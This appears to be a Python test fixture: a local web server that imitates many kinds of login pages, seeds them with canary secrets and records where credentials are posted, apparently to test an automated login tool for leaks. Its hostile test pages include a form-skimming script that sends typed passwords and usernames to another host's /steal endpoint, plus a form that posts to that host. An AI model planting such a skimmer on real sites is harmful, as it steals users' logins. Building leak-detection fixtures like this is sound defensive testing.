"""A web application with a door of every kind: forms, codes, QR codes, HTTP Basic; it keeps its accounts as real ones do.

What is posted where is remembered, so that tests can say what a password reached, and how often a door was tried.
"""

from __future__ import annotations

import base64
import http.server
import io
import threading
from http.cookies import SimpleCookie
from urllib.parse import parse_qs, quote, urlsplit

import pyotp
import segno
from PIL import Image, ImageDraw, ImageFont

from tests.site.pages import LIST, page

SMS = "202106"
PICTURE = "7K4P"
LOCKED_AFTER = 3
_FIELDS = '<input name="user"><input name="pw" type="password">'
_GO = '<button id="go">登录</button>'
_PICTURE = '<input id="code" name="code"><img id="picture" src="/picture.png">'


def form(action: str, inner: str = _FIELDS, said: str = "") -> str:
    return f'<form method="post" action="{action}">{inner}{_GO}</form>{said}'


class Gates(http.server.ThreadingHTTPServer):
    """The server, on a free port of 127.0.0.1, for the length of a `with` block."""

    daemon_threads = True
    block_on_close = False

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.username = "CANARYuser8f3a"
        self.password = "CANARY&pass/9d2b"
        self.seed = "JBSWY3DPEHPK3PXP"  # 80 bits, as many real systems give out
        self.session = "CANARYsession77e1"
        self.token = "CANARYtoken55c4"
        self.stored = "CANARYstored31aa"
        self.tab = "CANARYtab64bb01"
        self.indexed = "CANARYindexed9c"
        self.elsewhere = ""
        """Address of another host, which hostile pages send things to."""
        self.valid = {self.session}
        self.posted: list[tuple[str, str]] = []
        self.asked: list[str] = []
        self.failures = 0
        self.scanned = threading.Event()
        self.expires = 0
        """QR codes shown that expire at once."""
        self.qr_shown = 0
        self.sms_sent = 0

    @property
    def url(self) -> str:
        """The address, without a slash at its end."""
        return f"http://127.0.0.1:{self.server_address[1]}"

    @property
    def canaries(self) -> tuple[str, ...]:
        """Every secret of eight characters or more that a visit meets here."""
        own = (self.username, self.password, self.seed, self.session, self.token)
        return (*own, self.stored, self.tab, self.indexed)

    def tries(self, path: str) -> int:
        """How often a form was sent."""
        return sum(place == path for place, _ in self.posted)

    def handle_error(self, request: object, client_address: object) -> None:
        """Say nothing of visitors that hang up."""

    def __enter__(self) -> Gates:
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.shutdown()
        self.server_close()


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Gates

    def log_message(self, *_: object) -> None:
        """Say nothing."""

    def do_GET(self) -> None:
        path = urlsplit(self.path).path
        self.server.asked.append(path)
        name = path.strip("/").replace("-", "_").replace(".", "_").replace("/", "_") or "home"
        answer = getattr(self, f"show_{name}", None)
        if answer is None:
            self.send(page("<h1>404</h1>"), status=404)
        else:
            answer()

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        path = urlsplit(self.path).path
        self.server.posted.append((path, body))
        sent = {name: values[0] for name, values in parse_qs(body).items()}
        getattr(self, "take_" + path.strip("/").replace("-", "_"), lambda sent: self.send("", status=404))(sent)

    def send(
        self,
        body: str | bytes,
        *,
        status: int = 200,
        fields: dict[str, str] | None = None,
        kind: str = "text/html; charset=utf-8",
    ) -> None:
        data = body.encode() if isinstance(body, str) else body
        self.send_response(status)
        for name, value in {"Content-Type": kind, "Content-Length": str(len(data)), **(fields or {})}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def inside(self) -> bool:
        found = SimpleCookie(self.headers.get("Cookie", "")).get("SESSION")
        return found is not None and found.value in self.server.valid

    def let_in(self) -> None:
        site = self.server
        site.valid.add(site.session)
        cookie = f"SESSION={site.session}; Path=/; HttpOnly; Max-Age=7200"
        self.send(b"", status=302, fields={"Location": f"/inside?token={site.token}", "Set-Cookie": cookie})

    def right(self, sent: dict[str, str]) -> bool:
        return (sent.get("user"), sent.get("pw")) == (self.server.username, self.server.password)

    # what is behind the doors

    def show_home(self) -> None:
        self.show_inside()

    def show_inside(self) -> None:
        """A page only for those inside; it repeats its secrets in every way that careless pages do."""
        site = self.server
        if not self.inside():
            self.send(page(form("/form"), title="登录"))
            return
        shown = "".join(
            f'<p data-x="{value}">{quote(value)} {base64.b64encode(("x" + value).encode()).decode()}</p>'
            for value in site.canaries
            if value != site.seed
        )
        script = f"""<script>localStorage.auth = "{site.stored}"; sessionStorage.tab = sessionStorage.tab || "{site.tab}";
        console.error("{site.session} {site.tab}"); window.open("/popup?ticket={site.token}");
        const asked = indexedDB.open("db", 1); asked.onupgradeneeded = () => asked.result.createObjectStore("s");
        asked.onsuccess = () => asked.result.transaction("s", "readwrite").objectStore("s").put("{site.indexed}", "k");
        fetch("/me.json");</script>"""
        told = f'<p id="hello">欢迎您，{site.username}</p><p>验证码 {SMS} 发布于 2021-06-29</p>'
        self.send(page(f'{told}{LIST}{shown}<a id="file" href="/export.csv">导出</a>{script}'))

    def show_popup(self) -> None:
        self.send(page("<p>弹出页</p>"))

    def show_me_json(self) -> None:
        site = self.server
        self.send(
            f'{{"name": "{site.username}", "access_token": "{site.token}", "otp": "{SMS}"}}', kind="application/json"
        )

    def show_export_csv(self) -> None:
        site = self.server
        head = {"Content-Disposition": "attachment; filename=a.csv"}
        self.send(f"制表人,{site.username}\n会话,{site.session}\n", fields=head, kind="text/csv")

    def show_leave(self) -> None:
        """End every session."""
        self.server.valid.clear()
        self.send(page("<p>已退出</p>"))

    # forms

    def show_form(self) -> None:
        self.send(page(form("/form"), title="登录"))

    def take_form(self, sent: dict[str, str]) -> None:
        if self.right(sent):
            self.let_in()
        else:
            self.refuse("/form", "用户名或密码错误")

    def refuse(self, action: str, said: str, inner: str = _FIELDS) -> None:
        self.send(page(form(action, inner, f'<p class="wrong">{said}</p>'), title="登录"))

    def show_auto(self) -> None:
        """A common log-in that is still good."""
        self.let_in()

    def show_tabs(self) -> None:
        """The form is shown only after its tab was chosen; it is sent only once the terms were agreed to."""
        script = """<script>tab.onclick = () => { box.hidden = false; };
        document.forms[0].onsubmit = () => agree.checked;</script>"""
        hidden = f'<div id="box" hidden>{form("/form")}<input type="checkbox" id="agree">同意协议</div>'
        self.send(page(f'<button id="tab">账号登录</button>{hidden}{script}', title="登录"))

    def show_two_page(self) -> None:
        script = """<script>next.onclick = () => { second.hidden = false; first.hidden = true; };</script>"""
        first = '<div id="first"><input name="user"><button type="button" id="next">下一步</button></div>'
        second = f'<div id="second" hidden><input name="pw" type="password">{_GO}</div>'
        self.send(page(f'<form method="post" action="/form">{first}{second}</form>{script}', title="登录"))

    def show_framed(self) -> None:
        self.send(page('<iframe id="door" src="/form" width="400" height="300"></iframe>', title="登录"))

    def show_locking(self) -> None:
        self.send(page(form("/locking"), title="登录"))

    def take_locking(self, sent: dict[str, str]) -> None:
        """An account that is locked after some failures, as real ones are."""
        site = self.server
        if site.failures >= LOCKED_AFTER:
            self.refuse("/locking", "账号已锁定，请联系管理员")
        elif self.right(sent):
            site.failures = 0
            self.let_in()
        else:
            site.failures += 1
            self.refuse("/locking", f"密码错误，再错{LOCKED_AFTER - site.failures}次账号将被锁定")

    def show_silent(self) -> None:
        self.send(page(form("/silent"), title="登录"))

    def take_silent(self, sent: dict[str, str]) -> None:
        self.send(page("<p>系统繁忙</p>"))

    # forms with codes

    def show_picture(self) -> None:
        self.send(page(form("/picture", _FIELDS + _PICTURE), title="登录"))

    def show_picture_png(self) -> None:
        drawn = Image.new("RGB", (110, 44), "white")
        ImageDraw.Draw(drawn).text((8, 4), PICTURE, font=ImageFont.load_default(32), fill=(20, 40, 120))
        data = io.BytesIO()
        drawn.save(data, "PNG")
        self.send(data.getvalue(), kind="image/png")

    def take_picture(self, sent: dict[str, str]) -> None:
        if sent.get("code", "").upper() != PICTURE:
            self.refuse("/picture", "验证码错误", _FIELDS + _PICTURE)
        elif self.right(sent):
            self.let_in()
        else:
            self.refuse("/picture", "用户名或密码错误", _FIELDS + _PICTURE)

    def show_otp(self) -> None:
        self.send(page(form("/otp"), title="登录"))

    def take_otp(self, sent: dict[str, str]) -> None:
        """The code is asked for on a page of its own, after the password."""
        if self.right(sent):
            self.send(page(form("/otp-code", '<input id="code" name="code">'), title="两步验证"))
        else:
            self.refuse("/otp", "用户名或密码错误")

    def take_otp_code(self, sent: dict[str, str]) -> None:
        class Short(pyotp.TOTP):
            min_secret_length_bits = 80

        if Short(self.server.seed).verify(sent.get("code", ""), valid_window=1):
            self.let_in()
        else:
            self.refuse("/otp-code", "动态口令错误", '<input id="code" name="code">')

    def show_sms(self) -> None:
        asks = '<input id="code" name="code"><button type="button" id="send" onclick="fetch(\'/sms-send\', {method: \'POST\'})">发送</button>'
        self.send(page(form("/sms", _FIELDS + asks), title="登录"))

    def take_sms_send(self, sent: dict[str, str]) -> None:
        self.server.sms_sent += 1
        self.send("{}", kind="application/json")

    def take_sms(self, sent: dict[str, str]) -> None:
        if not self.right(sent):
            self.refuse("/sms", "用户名或密码错误")
        elif sent.get("code") == SMS and self.server.sms_sent:
            self.let_in()
        else:
            self.refuse("/sms", "短信验证码错误")

    # a QR code

    def show_qr(self) -> None:
        site = self.server
        site.qr_shown += 1
        expired = '<p id="expired">二维码已过期</p>' if site.qr_shown <= site.expires else ""
        script = """<script>setInterval(() => fetch("/qr-state").then((r) => r.text()).then((said) => {
        if (said === "yes") location.href = "/qr-in"; }), 60);</script>"""
        self.send(page(f'<img id="qr" src="/qr.png?n={site.qr_shown}">{expired}{script}', title="扫码登录"))

    def show_qr_png(self) -> None:
        data = io.BytesIO()
        segno.make(f"https://example.invalid/login/{self.server.qr_shown}", error="m").save(
            data, kind="png", scale=4, border=3
        )
        self.send(data.getvalue(), kind="image/png")

    def show_qr_state(self) -> None:
        self.send("yes" if self.server.scanned.is_set() else "no", kind="text/plain")

    def show_qr_in(self) -> None:
        if self.server.scanned.is_set():
            self.let_in()
        else:
            self.send("", status=403)

    # HTTP Basic

    def show_basic(self) -> None:
        named = base64.b64encode(f"{self.server.username}:{self.server.password}".encode()).decode()
        if self.headers.get("Authorization") == f"Basic {named}":
            files = '<img src="/basic"><script src="/basic"></script>'
            self.send(page(f'<p id="hello">欢迎</p>{LIST}{files}<p>{self.server.password}</p>'))
        else:
            if self.headers.get("Authorization"):
                self.server.posted.append(("/basic", ""))
            body = page('<h1>401</h1><img src="/basic"><img src="/basic?2">')
            self.send(body, status=401, fields={"WWW-Authenticate": 'Basic realm="x"'})

    # doors that lead elsewhere

    def show_sso(self) -> None:
        self.send(b"", status=302, fields={"Location": f"{self.server.elsewhere}/form"})

    def show_evil_action(self) -> None:
        self.send(page(form(f"{self.server.elsewhere}/form"), title="登录"))

    def show_evil_script(self) -> None:
        script = f"""<script>document.forms[0].pw.oninput = (event) =>
        fetch("{self.server.elsewhere}/steal?p=" + encodeURIComponent(btoa(event.target.value)), {{mode: "no-cors"}});
        document.forms[0].user.oninput = (event) =>
        navigator.sendBeacon("{self.server.elsewhere}/steal", JSON.stringify({{u: event.target.value}}));</script>"""
        self.send(page(form("/form") + script, title="登录"))

    def show_steal(self) -> None:
        self.server.posted.append(("/steal", self.path))
        self.send("ok")

    def take_steal(self, sent: dict[str, str]) -> None:
        self.send("ok")
